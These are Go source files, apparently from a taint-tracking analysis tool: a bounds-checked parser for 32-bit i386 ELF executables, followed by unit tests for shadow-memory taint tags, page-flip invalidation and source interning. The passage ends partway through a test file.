// This file parses 32-bit little-endian ELF executables — the format
// `as --32` + `ld -m elf_i386` emit — into a structural form the ELF
// frontend (elfimage.go) converts into a loadable Image. Every field
// read is bounds-checked and every failure is a typed error wrapping
// ErrBadImage: a malformed or adversarial upload must fail cleanly,
// never panic (the FuzzELFParse target enforces this).

// ELF constants (only the subset the frontend accepts).
const (
	elfClass32   = 1 // EI_CLASS: 32-bit objects
	elfData2LSB  = 1 // EI_DATA: little-endian
	elfTypeExec  = 2 // e_type: executable
	elfMachine86 = 3 // e_machine: Intel 80386

	elfSHTProgbits = 1 // section with file-backed contents
	elfSHTSymtab   = 2 // symbol table
	elfSHTStrtab   = 3 // string table
	elfSHTNobits   = 8 // section occupying no file space (.bss)
	elfSHTNote     = 7 // note section (build IDs)

	elfSHFWrite = 0x1 // section is writable
	elfSHFAlloc = 0x2 // section occupies memory at run time
	elfSHFExec  = 0x4 // section holds machine code

	elfSTTObject = 1 // data symbol
	elfSTTFunc   = 2 // code symbol

	elfNoteGNUBuildID = 3 // NT_GNU_BUILD_ID

	elfEhdrSize  = 52 // Elf32_Ehdr
	elfShdrSize  = 40 // Elf32_Shdr
	elfPhdrSize  = 32 // Elf32_Phdr
	elfSymSize   = 16 // Elf32_Sym
	elfMaxHdrs   = 4096
	elfMaxStrLen = 4096

	// Decoded-size caps over SHF_ALLOC sections. SHT_NOBITS (.bss)
	// declares memory the file never backs, so sh_size is pure header
	// data: without a cap a tiny upload can declare gigabytes and OOM
	// the decoder before any backpressure applies. The caps are far
	// above anything the reference toolchain emits for this corpus.
	elfMaxSecSize   = 4 << 20  // one section's in-memory size
	elfMaxImageSize = 16 << 20 // sum of all SHF_ALLOC section sizes
)

// ELFMagic is the four identification bytes every ELF object starts
// with; Detect sniffing is exactly this prefix.
var ELFMagic = []byte{0x7f, 'E', 'L', 'F'}

// ELFError is a structural parse failure: what was malformed and
// where. It wraps ErrBadImage so transports can reject the upload with
// a typed 400 instead of crashing a worker.
type ELFError struct {
	Off int    // file offset of the offending structure
	Msg string // what was wrong
}

func (e *ELFError) Error() string {
	return fmt.Sprintf("elf: offset %#x: %s", e.Off, e.Msg)
}

// Unwrap ties every ELF parse failure to the ErrBadImage sentinel.
func (e *ELFError) Unwrap() error { return ErrBadImage }

func elfErr(off int, format string, args ...any) error {
	return &ELFError{Off: off, Msg: fmt.Sprintf(format, args...)}
}

// ELFSection is one parsed section header with its contents.
type ELFSection struct {
	Name  string
	Type  uint32
	Flags uint32
	Addr  uint32 // link-time virtual address
	Size  uint32
	Data  []byte // nil for SHT_NOBITS
	Link  uint32 // sh_link (symtab -> strtab)
}

// Alloc reports whether the section occupies guest memory.
func (s *ELFSection) Alloc() bool { return s.Flags&elfSHFAlloc != 0 }

// Exec reports whether the section holds machine code.
func (s *ELFSection) Exec() bool { return s.Flags&elfSHFExec != 0 }

// ELFProg is one parsed program header. The frontend lays out by
// sections (they carry names and symbols), but the segment view is
// parsed, validated, and exposed for consumers that want it.
type ELFProg struct {
	Type   uint32
	Off    uint32
	Vaddr  uint32
	Filesz uint32
	Memsz  uint32
	Flags  uint32
}

// ELFSym is one symbol-table entry with its name resolved.
type ELFSym struct {
	Name  string
	Value uint32
	Size  uint32
	Info  byte
	Shndx uint16 // defining section index
}

// Type returns the symbol's STT type nibble.
func (s *ELFSym) Type() byte { return s.Info & 0xf }

// ELF is a parsed 32-bit executable.
type ELF struct {
	Entry    uint32
	Sections []ELFSection
	Progs    []ELFProg
	Symbols  []ELFSym
	BuildID  string // hex NT_GNU_BUILD_ID, "" when absent
}

// IsELF reports whether data starts with the ELF identification magic.
func IsELF(data []byte) bool {
	return len(data) >= len(ELFMagic) &&
		data[0] == ELFMagic[0] && data[1] == ELFMagic[1] &&
		data[2] == ELFMagic[2] && data[3] == ELFMagic[3]
}

// ParseELF parses a 32-bit little-endian i386 executable. It accepts
// exactly the shape the reference toolchain produces (ET_EXEC, EM_386)
// and fails with a typed *ELFError (wrapping ErrBadImage) on anything
// else — including every out-of-bounds header, section, string, or
// symbol reference a truncated or adversarial file can contain.
func ParseELF(data []byte) (*ELF, error) {
	le := binary.LittleEndian
	if !IsELF(data) {
		return nil, elfErr(0, "bad magic")
	}
	if len(data) < elfEhdrSize {
		return nil, elfErr(0, "truncated header: %d bytes", len(data))
	}
	if data[4] != elfClass32 {
		return nil, elfErr(4, "unsupported class %d (want ELFCLASS32)", data[4])
	}
	if data[5] != elfData2LSB {
		return nil, elfErr(5, "unsupported byte order %d (want little-endian)", data[5])
	}
	if typ := le.Uint16(data[16:]); typ != elfTypeExec {
		return nil, elfErr(16, "unsupported object type %d (want ET_EXEC)", typ)
	}
	if mach := le.Uint16(data[18:]); mach != elfMachine86 {
		return nil, elfErr(18, "unsupported machine %d (want EM_386)", mach)
	}
	f := &ELF{Entry: le.Uint32(data[24:])}

	// Program headers. All offset arithmetic is done in uint64: the
	// header fields are attacker-controlled uint32s, and int math can
	// wrap on 32-bit platforms, turning an out-of-bounds offset into a
	// passing bounds check followed by a slice panic.
	phoff := uint64(le.Uint32(data[28:]))
	phentsize := uint64(le.Uint16(data[42:]))
	phnum := int(le.Uint16(data[44:]))
	if phnum > 0 {
		if phentsize < elfPhdrSize {
			return nil, elfErr(42, "program header entry size %d too small", phentsize)
		}
		if phnum > elfMaxHdrs {
			return nil, elfErr(44, "implausible program header count %d", phnum)
		}
		for i := 0; i < phnum; i++ {
			off64 := phoff + uint64(i)*phentsize
			if off64+elfPhdrSize > uint64(len(data)) {
				return nil, elfErr(int(phoff), "program header %d out of file bounds", i)
			}
			off := int(off64)
			p := ELFProg{
				Type:   le.Uint32(data[off:]),
				Off:    le.Uint32(data[off+4:]),
				Vaddr:  le.Uint32(data[off+8:]),
				Filesz: le.Uint32(data[off+16:]),
				Memsz:  le.Uint32(data[off+20:]),
				Flags:  le.Uint32(data[off+24:]),
			}
			if end := uint64(p.Off) + uint64(p.Filesz); end > uint64(len(data)) {
				return nil, elfErr(off, "segment %d file range [%#x,%#x) out of bounds", i, p.Off, end)
			}
			if p.Memsz < p.Filesz {
				return nil, elfErr(off, "segment %d memsz %#x < filesz %#x", i, p.Memsz, p.Filesz)
			}
			f.Progs = append(f.Progs, p)
		}
	}

	// Section headers. Same uint64 offset discipline as above.
	shoff := uint64(le.Uint32(data[32:]))
	shentsize := uint64(le.Uint16(data[46:]))
	shnum := int(le.Uint16(data[48:]))
	shstrndx := int(le.Uint16(data[50:]))
	if shnum == 0 {
		return nil, elfErr(48, "no section headers")
	}
	if shentsize < elfShdrSize {
		return nil, elfErr(46, "section header entry size %d too small", shentsize)
	}
	if shnum > elfMaxHdrs {
		return nil, elfErr(48, "implausible section header count %d", shnum)
	}
	type rawShdr struct {
		name, typ, flags, addr, off, size, link uint32
	}
	raw := make([]rawShdr, shnum)
	for i := 0; i < shnum; i++ {
		off64 := shoff + uint64(i)*shentsize
		if off64+elfShdrSize > uint64(len(data)) {
			return nil, elfErr(int(shoff), "section header %d out of file bounds", i)
		}
		off := int(off64)
		raw[i] = rawShdr{
			name:  le.Uint32(data[off:]),
			typ:   le.Uint32(data[off+4:]),
			flags: le.Uint32(data[off+8:]),
			addr:  le.Uint32(data[off+12:]),
			off:   le.Uint32(data[off+16:]),
			size:  le.Uint32(data[off+20:]),
			link:  le.Uint32(data[off+24:]),
		}
	}
	if shstrndx < 0 || shstrndx >= shnum {
		return nil, elfErr(50, "section name table index %d out of range", shstrndx)
	}
	shstr, err := elfSectionBytes(data, &raw[shstrndx].off, raw[shstrndx].typ, raw[shstrndx].size, shstrndx)
	if err != nil {
		return nil, err
	}
	f.Sections = make([]ELFSection, shnum)
	var allocTotal uint64
	for i := 0; i < shnum; i++ {
		r := &raw[i]
		hdrOff := int(shoff + uint64(i)*shentsize)
		name, err := elfString(shstr, r.name)
		if err != nil {
			return nil, elfErr(hdrOff, "section %d name: %v", i, err)
		}
		if r.flags&elfSHFAlloc != 0 {
			// Caps over what the decoder will materialize: sh_size of a
			// NOBITS section is backed by no file bytes, so unchecked it
			// is a free OOM lever for a tiny upload.
			if r.size > elfMaxSecSize {
				return nil, elfErr(hdrOff, "section %d size %#x exceeds the %d MiB section cap",
					i, r.size, elfMaxSecSize>>20)
			}
			if allocTotal += uint64(r.size); allocTotal > elfMaxImageSize {
				return nil, elfErr(hdrOff, "total mapped section size exceeds the %d MiB image cap",
					elfMaxImageSize>>20)
			}
			if end := uint64(r.addr) + uint64(r.size); end > 0xFFFFFFFF {
				return nil, elfErr(hdrOff, "section %d range [%#x,%#x) wraps the 32-bit address space",
					i, r.addr, end)
			}
		}
		sec := ELFSection{
			Name: name, Type: r.typ, Flags: r.flags,
			Addr: r.addr, Size: r.size, Link: r.link,
		}
		if r.typ != elfSHTNobits && r.typ != 0 {
			b, err := elfSectionBytes(data, &r.off, r.typ, r.size, i)
			if err != nil {
				return nil, err
			}
			sec.Data = b
		}
		f.Sections[i] = sec
	}

	// Symbol tables (usually one .symtab).
	for i := range f.Sections {
		sec := &f.Sections[i]
		if sec.Type != elfSHTSymtab {
			continue
		}
		if int(sec.Link) >= len(f.Sections) || f.Sections[sec.Link].Type != elfSHTStrtab {
			return nil, elfErr(0, "symtab %q links to bad string table %d", sec.Name, sec.Link)
		}
		strs := f.Sections[sec.Link].Data
		n := len(sec.Data) / elfSymSize
		for j := 0; j < n; j++ {
			e := sec.Data[j*elfSymSize:]
			name, err := elfString(strs, binary.LittleEndian.Uint32(e))
			if err != nil {
				return nil, elfErr(0, "symbol %d name: %v", j, err)
			}
			f.Symbols = append(f.Symbols, ELFSym{
				Name:  name,
				Value: binary.LittleEndian.Uint32(e[4:]),
				Size:  binary.LittleEndian.Uint32(e[8:]),
				Info:  e[12],
				Shndx: binary.LittleEndian.Uint16(e[14:]),
			})
		}
	}

	// Build ID from SHT_NOTE sections (ld --build-id).
	for i := range f.Sections {
		if f.Sections[i].Type == elfSHTNote {
			if id := elfBuildID(f.Sections[i].Data); id != "" {
				f.BuildID = id
				break
			}
		}
	}
	return f, nil
}

// elfSectionBytes bounds-checks and slices one section's file range.
func elfSectionBytes(data []byte, off *uint32, typ, size uint32, idx int) ([]byte, error) {
	if typ == 0 || size == 0 {
		return nil, nil
	}
	end := uint64(*off) + uint64(size)
	if end > uint64(len(data)) {
		return nil, elfErr(int(*off), "section %d range [%#x,%#x) out of file bounds", idx, *off, end)
	}
	return data[*off:end], nil
}

// elfString reads a NUL-terminated string out of a string table.
func elfString(strtab []byte, off uint32) (string, error) {
	if off >= uint32(len(strtab)) {
		if off == 0 { // empty table, index 0: the empty name
			return "", nil
		}
		return "", fmt.Errorf("string offset %#x outside table of %d bytes", off, len(strtab))
	}
	for i := int(off); i < len(strtab) && i-int(off) <= elfMaxStrLen; i++ {
		if strtab[i] == 0 {
			return string(strtab[off:i]), nil
		}
	}
	return "", fmt.Errorf("unterminated string at %#x", off)
}

// elfBuildID extracts the hex NT_GNU_BUILD_ID from a note section's
// contents, or "" when the section holds no such note. Malformed note
// records terminate the scan; a build ID is advisory, never an error.
func elfBuildID(note []byte) string {
	le := binary.LittleEndian
	for len(note) >= 12 {
		namesz := int(le.Uint32(note))
		descsz := int(le.Uint32(note[4:]))
		typ := le.Uint32(note[8:])
		nameEnd := 12 + namesz
		descStart := nameEnd + (-namesz & 3)
		descEnd := descStart + descsz
		if nameEnd < 12 || nameEnd > len(note) ||
			descEnd < descStart || descEnd > len(note) {
			return ""
		}
		name := note[12:nameEnd]
		if typ == elfNoteGNUBuildID && len(name) >= 4 && string(name[:4]) == "GNU\x00" {
			return hex.EncodeToString(note[descStart:descEnd])
		}
		next := descEnd + (-descsz & 3)
		if next <= 0 || next > len(note) {
			return ""
		}
		note = note[next:]
	}
	return ""
}
