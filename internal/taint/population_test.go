package taint

import "testing"

// TestShadowPopulation exercises the live tag population count and the
// write generation behind the clean-taint gate: pop tracks exactly the
// number of bytes carrying a non-Empty tag, and gen advances exactly
// when a write changes a stored tag — redundant writes move neither.
func TestShadowPopulation(t *testing.T) {
	st, sh := newTestShadow()
	if !sh.Taintless() || sh.TagBytes() != 0 {
		t.Fatalf("fresh shadow: pop=%d taintless=%v", sh.TagBytes(), sh.Taintless())
	}
	tag := st.Of(Source{File, "f"})
	tag2 := st.Of(Source{Socket, "s"})

	sh.Set(0x100, tag)
	if sh.TagBytes() != 1 || sh.Taintless() {
		t.Fatalf("after one byte: pop=%d", sh.TagBytes())
	}
	g := sh.Gen()
	sh.Set(0x100, tag) // identical re-write: no movement
	if sh.Gen() != g || sh.TagBytes() != 1 {
		t.Fatalf("redundant Set moved gen %d->%d pop=%d", g, sh.Gen(), sh.TagBytes())
	}
	sh.Set(0x100, tag2) // tag change: gen moves, pop does not
	if sh.Gen() == g || sh.TagBytes() != 1 {
		t.Fatalf("tag change: gen %d->%d pop=%d", g, sh.Gen(), sh.TagBytes())
	}
	sh.Set(0x100, Empty)
	if sh.TagBytes() != 0 || !sh.Taintless() {
		t.Fatalf("after clearing: pop=%d", sh.TagBytes())
	}

	sh.SetWord(0x200, tag)
	if sh.TagBytes() != 4 {
		t.Fatalf("word write: pop=%d, want 4", sh.TagBytes())
	}
	g = sh.Gen()
	sh.SetWord(0x200, tag)
	if sh.Gen() != g {
		t.Fatal("redundant SetWord moved gen")
	}
	sh.Set(0x201, tag2) // splits the word into byte granularity
	if sh.TagBytes() != 4 {
		t.Fatalf("byte split: pop=%d, want 4", sh.TagBytes())
	}
	sh.SetWord(0x200, Empty)
	if sh.TagBytes() != 0 {
		t.Fatalf("word clear: pop=%d", sh.TagBytes())
	}

	sh.SetRange(0xFF0, 32, tag) // crosses a page boundary
	if sh.TagBytes() != 32 {
		t.Fatalf("range write: pop=%d, want 32", sh.TagBytes())
	}
	sh.ClearRange(0xFF0, 16)
	if sh.TagBytes() != 16 {
		t.Fatalf("half clear: pop=%d, want 16", sh.TagBytes())
	}
	cl := sh.Clone()
	if cl.TagBytes() != 16 || cl.Gen() != sh.Gen() {
		t.Fatalf("clone: pop=%d gen=%d, want %d/%d", cl.TagBytes(), cl.Gen(), sh.TagBytes(), sh.Gen())
	}
	g = sh.Gen()
	sh.Reset()
	if sh.TagBytes() != 0 || !sh.Taintless() || sh.Gen() == g {
		t.Fatalf("reset: pop=%d gen %d->%d", sh.TagBytes(), g, sh.Gen())
	}
	if cl.TagBytes() != 16 {
		t.Fatal("reset of the original touched the clone")
	}
}

// TestShadowSourceAfterCachedNil is the negative-TLB regression test
// for the clean-taint gate's flip moment: a lookup that caches a
// nil-page TLB entry must not mask a source tag written to that page
// immediately afterwards — the exact sequence of a `read`/`recv`
// source arriving while the gate still believes the world is clean.
func TestShadowSourceAfterCachedNil(t *testing.T) {
	st, sh := newTestShadow()
	tag := st.Of(Source{UserInput, "stdin"})

	// Prime the TLB with the page's nil entry (population zero).
	if sh.GetWord(0x3000) != Empty {
		t.Fatal("fresh page not empty")
	}
	g := sh.Gen()
	// The source lands on the same page: zero -> nonzero population.
	sh.SetRange(0x3000, 8, tag)
	if sh.Taintless() || sh.Gen() == g {
		t.Fatalf("source not accounted: pop=%d gen %d->%d", sh.TagBytes(), g, sh.Gen())
	}
	// The very next lookup must see the tag, not the cached nil.
	if got := sh.GetWord(0x3000); got != tag {
		t.Fatalf("GetWord after cached-nil lookup = %d, want %d", got, tag)
	}
	if got := sh.Get(0x3004); got != tag {
		t.Fatalf("Get after cached-nil lookup = %d, want %d", got, tag)
	}

	// Same sequence through the word path (Set/SetWord share pageAlloc).
	if sh.Get(0x5000) != Empty {
		t.Fatal("fresh page not empty")
	}
	sh.SetWord(0x5000, tag)
	if got := sh.GetWord(0x5000); got != tag {
		t.Fatalf("SetWord after cached-nil lookup = %d, want %d", got, tag)
	}
}
