package taint

import "testing"

// TestShadowPopulation exercises the live tag population count and the
// write generation behind the clean-taint gate: pop tracks exactly the
// number of bytes carrying a non-Empty tag, and gen advances exactly
// when a write changes a stored tag — redundant writes move neither.
func TestShadowPopulation(t *testing.T) {
	st, sh := newTestShadow()
	if !sh.Taintless() || sh.TagBytes() != 0 {
		t.Fatalf("fresh shadow: pop=%d taintless=%v", sh.TagBytes(), sh.Taintless())
	}
	tag := st.Of(Source{File, "f"})
	tag2 := st.Of(Source{Socket, "s"})

	sh.Set(0x100, tag)
	if sh.TagBytes() != 1 || sh.Taintless() {
		t.Fatalf("after one byte: pop=%d", sh.TagBytes())
	}
	g := sh.Gen()
	sh.Set(0x100, tag) // identical re-write: no movement
	if sh.Gen() != g || sh.TagBytes() != 1 {
		t.Fatalf("redundant Set moved gen %d->%d pop=%d", g, sh.Gen(), sh.TagBytes())
	}
	sh.Set(0x100, tag2) // tag change: gen moves, pop does not
	if sh.Gen() == g || sh.TagBytes() != 1 {
		t.Fatalf("tag change: gen %d->%d pop=%d", g, sh.Gen(), sh.TagBytes())
	}
	sh.Set(0x100, Empty)
	if sh.TagBytes() != 0 || !sh.Taintless() {
		t.Fatalf("after clearing: pop=%d", sh.TagBytes())
	}

	sh.SetWord(0x200, tag)
	if sh.TagBytes() != 4 {
		t.Fatalf("word write: pop=%d, want 4", sh.TagBytes())
	}
	g = sh.Gen()
	sh.SetWord(0x200, tag)
	if sh.Gen() != g {
		t.Fatal("redundant SetWord moved gen")
	}
	sh.Set(0x201, tag2) // splits the word into byte granularity
	if sh.TagBytes() != 4 {
		t.Fatalf("byte split: pop=%d, want 4", sh.TagBytes())
	}
	sh.SetWord(0x200, Empty)
	if sh.TagBytes() != 0 {
		t.Fatalf("word clear: pop=%d", sh.TagBytes())
	}

	sh.SetRange(0xFF0, 32, tag) // crosses a page boundary
	if sh.TagBytes() != 32 {
		t.Fatalf("range write: pop=%d, want 32", sh.TagBytes())
	}
	sh.ClearRange(0xFF0, 16)
	if sh.TagBytes() != 16 {
		t.Fatalf("half clear: pop=%d, want 16", sh.TagBytes())
	}
	cl := sh.Clone()
	if cl.TagBytes() != 16 || cl.Gen() != sh.Gen() {
		t.Fatalf("clone: pop=%d gen=%d, want %d/%d", cl.TagBytes(), cl.Gen(), sh.TagBytes(), sh.Gen())
	}
	g = sh.Gen()
	sh.Reset()
	if sh.TagBytes() != 0 || !sh.Taintless() || sh.Gen() == g {
		t.Fatalf("reset: pop=%d gen %d->%d", sh.TagBytes(), g, sh.Gen())
	}
	if cl.TagBytes() != 16 {
		t.Fatal("reset of the original touched the clone")
	}
}

// TestShadowSourceAfterCachedNil is the negative-TLB regression test
// for the clean-taint gate's flip moment: a lookup that caches a
// nil-page TLB entry must not mask a source tag written to that page
// immediately afterwards — the exact sequence of a `read`/`recv`
// source arriving while the gate still believes the world is clean.
func TestShadowSourceAfterCachedNil(t *testing.T) {
	st, sh := newTestShadow()
	tag := st.Of(Source{UserInput, "stdin"})

	// Prime the TLB with the page's nil entry (population zero).
	if sh.GetWord(0x3000) != Empty {
		t.Fatal("fresh page not empty")
	}
	g := sh.Gen()
	// The source lands on the same page: zero -> nonzero population.
	sh.SetRange(0x3000, 8, tag)
	if sh.Taintless() || sh.Gen() == g {
		t.Fatalf("source not accounted: pop=%d gen %d->%d", sh.TagBytes(), g, sh.Gen())
	}
	// The very next lookup must see the tag, not the cached nil.
	if got := sh.GetWord(0x3000); got != tag {
		t.Fatalf("GetWord after cached-nil lookup = %d, want %d", got, tag)
	}
	if got := sh.Get(0x3004); got != tag {
		t.Fatalf("Get after cached-nil lookup = %d, want %d", got, tag)
	}

	// Same sequence through the word path (Set/SetWord share pageAlloc).
	if sh.Get(0x5000) != Empty {
		t.Fatal("fresh page not empty")
	}
	sh.SetWord(0x5000, tag)
	if got := sh.GetWord(0x5000); got != tag {
		t.Fatalf("SetWord after cached-nil lookup = %d, want %d", got, tag)
	}
}

// TestShadowPageFlipSeam pins down the clean tier's invalidation seam
// on top of the cached-nil regression above: a verdict cached while a
// page's population is zero is only sound until that page flips
// zero→nonzero, so FlipGen must advance — and the OnPageFlip listener
// must fire, synchronously and with the right page index — on exactly
// those transitions and on nothing else.
func TestShadowPageFlipSeam(t *testing.T) {
	st, sh := newTestShadow()
	tag := st.Of(Source{Socket, "attacker:6666"})
	tag2 := st.Of(Source{File, "f"})

	var flips []uint32
	sh.OnPageFlip(func(idx uint32) { flips = append(flips, idx) })

	// The clean-tier sequence: probe the page (population zero, verdict
	// cacheable), then a source lands on it.
	if !sh.PageClean(0x3) || sh.GetWord(0x3000) != Empty {
		t.Fatal("fresh page not clean")
	}
	g := sh.FlipGen()
	sh.SetRange(0x3000, 8, tag)
	if sh.FlipGen() == g {
		t.Fatal("zero->nonzero population did not advance FlipGen")
	}
	if len(flips) != 1 || flips[0] != 0x3 {
		t.Fatalf("flip listener saw %v, want [0x3]", flips)
	}
	if sh.PageClean(0x3) {
		t.Fatal("tainted page still reports clean")
	}

	// Writes confined to an already-dirty page move Gen but are not
	// flips: the cached verdict was already dead.
	g = sh.FlipGen()
	sh.Set(0x3100, tag2)
	if sh.FlipGen() != g || len(flips) != 1 {
		t.Fatalf("dirty-page write flipped: gen %d->%d, flips %v", g, sh.FlipGen(), flips)
	}

	// Draining the page back to zero is not a flip either (clean
	// verdicts can only be invalidated by taint arriving, never by it
	// leaving) — but the *next* zero->nonzero transition must fire
	// again, or a verdict cached in the clean window would go stale.
	sh.ClearRange(0x3000, 0x1000)
	if !sh.PageClean(0x3) || sh.FlipGen() != g || len(flips) != 1 {
		t.Fatalf("drain misbehaved: clean=%v flips=%v", sh.PageClean(0x3), flips)
	}
	sh.Set(0x3000, tag)
	if sh.FlipGen() == g || len(flips) != 2 || flips[1] != 0x3 {
		t.Fatalf("re-flip not seen: gen %d->%d flips %v", g, sh.FlipGen(), flips)
	}

	// Reset (execve) bumps the flip generation wholesale, and a clone
	// (fork) carries the generation but not the parent's listener.
	cl := sh.Clone()
	if cl.FlipGen() != sh.FlipGen() {
		t.Fatalf("clone flip gen %d, want %d", cl.FlipGen(), sh.FlipGen())
	}
	cl.Set(0x9000, tag)
	if len(flips) != 2 {
		t.Fatal("clone write fired the parent's listener")
	}
	g = sh.FlipGen()
	sh.Reset()
	if sh.FlipGen() == g {
		t.Fatal("Reset did not advance FlipGen")
	}
}
