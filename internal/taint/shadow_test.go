package taint

import (
	"math/rand"
	"testing"
)

func newTestShadow() (*Store, *Shadow) {
	st := NewStore()
	return st, NewShadow(st)
}

func TestShadowDefaultEmpty(t *testing.T) {
	_, sh := newTestShadow()
	if got := sh.Get(0x1000); got != Empty {
		t.Errorf("Get on fresh shadow = %d", got)
	}
	if sh.Pages() != 0 {
		t.Errorf("fresh shadow has %d pages", sh.Pages())
	}
}

func TestShadowSetGet(t *testing.T) {
	st, sh := newTestShadow()
	tag := st.Of(Source{File, "f"})
	sh.Set(0x1234, tag)
	if got := sh.Get(0x1234); got != tag {
		t.Errorf("Get = %d, want %d", got, tag)
	}
	if got := sh.Get(0x1235); got != Empty {
		t.Errorf("neighbor byte = %d, want Empty", got)
	}
}

func TestShadowSetEmptyNoAlloc(t *testing.T) {
	_, sh := newTestShadow()
	sh.Set(0x5000, Empty)
	if sh.Pages() != 0 {
		t.Errorf("Set(Empty) allocated a page")
	}
}

func TestShadowRange(t *testing.T) {
	st, sh := newTestShadow()
	tag := st.Of(Source{Socket, "s"})
	sh.SetRange(0xFF0, 32, tag) // crosses a page boundary at 0x1000
	for i := uint32(0); i < 32; i++ {
		if sh.Get(0xFF0+i) != tag {
			t.Fatalf("byte %d not tagged", i)
		}
	}
	if sh.Get(0xFEF) != Empty || sh.Get(0xFF0+32) != Empty {
		t.Error("range bled outside its bounds")
	}
	if sh.Pages() != 2 {
		t.Errorf("pages = %d, want 2", sh.Pages())
	}
}

func TestShadowGetRangeUnions(t *testing.T) {
	st, sh := newTestShadow()
	a := st.Of(Source{File, "a"})
	b := st.Of(Source{Binary, "b"})
	sh.Set(100, a)
	sh.Set(102, b)
	got := sh.GetRange(100, 4)
	if got != st.Union(a, b) {
		t.Errorf("GetRange = %s", st.String(got))
	}
}

func TestShadowWordOps(t *testing.T) {
	st, sh := newTestShadow()
	tag := st.Of(Source{Hardware, "cpuid"})
	sh.SetWord(0x2000, tag)
	if sh.GetWord(0x2000) != tag {
		t.Error("GetWord != SetWord tag")
	}
	if sh.Get(0x2003) != tag || sh.Get(0x2004) != Empty {
		t.Error("SetWord bounds wrong")
	}
}

func TestShadowCopyForward(t *testing.T) {
	st, sh := newTestShadow()
	a := st.Of(Source{File, "a"})
	b := st.Of(Source{File, "b"})
	sh.Set(10, a)
	sh.Set(11, b)
	sh.Copy(20, 10, 2)
	if sh.Get(20) != a || sh.Get(21) != b {
		t.Error("forward copy failed")
	}
	// Source preserved.
	if sh.Get(10) != a {
		t.Error("copy destroyed source")
	}
}

func TestShadowCopyOverlapping(t *testing.T) {
	st, sh := newTestShadow()
	tags := make([]Tag, 8)
	for i := range tags {
		tags[i] = st.Of(Source{File, string(rune('a' + i))})
		sh.Set(uint32(100+i), tags[i])
	}
	// Overlapping copy forward (dst > src): like memmove.
	sh.Copy(102, 100, 8)
	for i := 0; i < 8; i++ {
		if got := sh.Get(uint32(102 + i)); got != tags[i] {
			t.Fatalf("overlap copy byte %d = %d, want %d", i, got, tags[i])
		}
	}
	// Overlapping copy backward (dst < src).
	_, sh2 := st, NewShadow(st)
	for i := range tags {
		sh2.Set(uint32(200+i), tags[i])
	}
	sh2.Copy(198, 200, 8)
	for i := 0; i < 8; i++ {
		if got := sh2.Get(uint32(198 + i)); got != tags[i] {
			t.Fatalf("backward overlap byte %d = %d, want %d", i, got, tags[i])
		}
	}
}

func TestShadowCopySelfNoop(t *testing.T) {
	st, sh := newTestShadow()
	tag := st.Of(Source{File, "x"})
	sh.Set(50, tag)
	sh.Copy(50, 50, 4)
	if sh.Get(50) != tag {
		t.Error("self-copy corrupted data")
	}
}

func TestShadowClone(t *testing.T) {
	st, sh := newTestShadow()
	tag := st.Of(Source{UserInput, "stdin"})
	sh.Set(0x3000, tag)
	cl := sh.Clone()
	if cl.Get(0x3000) != tag {
		t.Error("clone missing tag")
	}
	// Mutating the clone must not affect the original.
	other := st.Of(Source{Binary, "img"})
	cl.Set(0x3000, other)
	if sh.Get(0x3000) != tag {
		t.Error("clone mutation leaked into original")
	}
}

func TestShadowClearRangeAndReset(t *testing.T) {
	st, sh := newTestShadow()
	tag := st.Of(Source{File, "f"})
	sh.SetRange(0, 16, tag)
	sh.ClearRange(4, 8)
	if sh.Get(3) != tag || sh.Get(4) != Empty || sh.Get(11) != Empty || sh.Get(12) != tag {
		t.Error("ClearRange bounds wrong")
	}
	sh.Reset()
	if sh.Pages() != 0 || sh.Get(0) != Empty {
		t.Error("Reset did not clear")
	}
}

// Property: a randomized sequence of Set operations is faithfully
// readable back (shadow behaves like a map from address to tag).
func TestShadowModelProperty(t *testing.T) {
	st, sh := newTestShadow()
	model := make(map[uint32]Tag)
	rng := rand.New(rand.NewSource(99))
	tags := []Tag{
		Empty,
		st.Of(Source{File, "a"}),
		st.Of(Source{Socket, "b"}),
		st.Of(Source{Binary, "c"}),
	}
	for i := 0; i < 5000; i++ {
		addr := uint32(rng.Intn(3 * pageSize))
		tag := tags[rng.Intn(len(tags))]
		sh.Set(addr, tag)
		model[addr] = tag
	}
	for addr, want := range model {
		if got := sh.Get(addr); got != want {
			t.Fatalf("addr %#x = %d, want %d", addr, got, want)
		}
	}
}

func BenchmarkShadowSetGet(b *testing.B) {
	st, sh := newTestShadow()
	tag := st.Of(Source{File, "bench"})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		addr := uint32(i) & 0xFFFF
		sh.Set(addr, tag)
		_ = sh.Get(addr)
	}
}

func BenchmarkUnionCached(b *testing.B) {
	st := NewStore()
	x := st.Of(Source{File, "x"})
	y := st.Of(Source{Socket, "y"})
	st.Union(x, y)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = st.Union(x, y)
	}
}
