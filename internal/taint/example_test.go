package taint_test

import (
	"fmt"

	"repro/internal/taint"
)

// Example shows source-set interning and union: the core of Harrier's
// per-instruction data-flow tracking.
func Example() {
	st := taint.NewStore()
	fileTag := st.Of(taint.Source{Type: taint.File, Name: "/etc/passwd"})
	binTag := st.Of(taint.Source{Type: taint.Binary, Name: "/bin/evil"})

	// add %ebx, %eax: the destination unions both operand tag sets.
	result := st.Union(fileTag, binTag)
	fmt.Println(st.String(result))

	// Unions are interned: recomputing yields the identical tag.
	fmt.Println(st.Union(fileTag, binTag) == result)
	// Output:
	// {FILE:"/etc/passwd", BINARY:"/bin/evil"}
	// true
}
