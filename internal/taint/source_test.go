package taint

import (
	"fmt"
	"math/rand"
	"sort"
	"testing"
	"testing/quick"
)

func TestSourceTypeString(t *testing.T) {
	cases := map[SourceType]string{
		None:      "NONE",
		UserInput: "USER_INPUT",
		File:      "FILE",
		Socket:    "SOCKET",
		Binary:    "BINARY",
		Hardware:  "HARDWARE",
		Unknown:   "UNKNOWN",
	}
	for typ, want := range cases {
		if got := typ.String(); got != want {
			t.Errorf("%d.String() = %q, want %q", typ, got, want)
		}
	}
	if got := SourceType(200).String(); got != "SourceType(200)" {
		t.Errorf("out-of-range String() = %q", got)
	}
}

func TestSourceTypeValid(t *testing.T) {
	for _, typ := range []SourceType{UserInput, File, Socket, Binary, Hardware, Unknown} {
		if !typ.Valid() {
			t.Errorf("%v.Valid() = false", typ)
		}
	}
	if None.Valid() {
		t.Error("None.Valid() = true")
	}
	if SourceType(99).Valid() {
		t.Error("SourceType(99).Valid() = true")
	}
}

func TestEmptyTag(t *testing.T) {
	st := NewStore()
	if got := st.Sources(Empty); got != nil {
		t.Errorf("Sources(Empty) = %v, want nil", got)
	}
	if st.Len(Empty) != 0 {
		t.Errorf("Len(Empty) = %d", st.Len(Empty))
	}
	if got := st.String(Empty); got != "{}" {
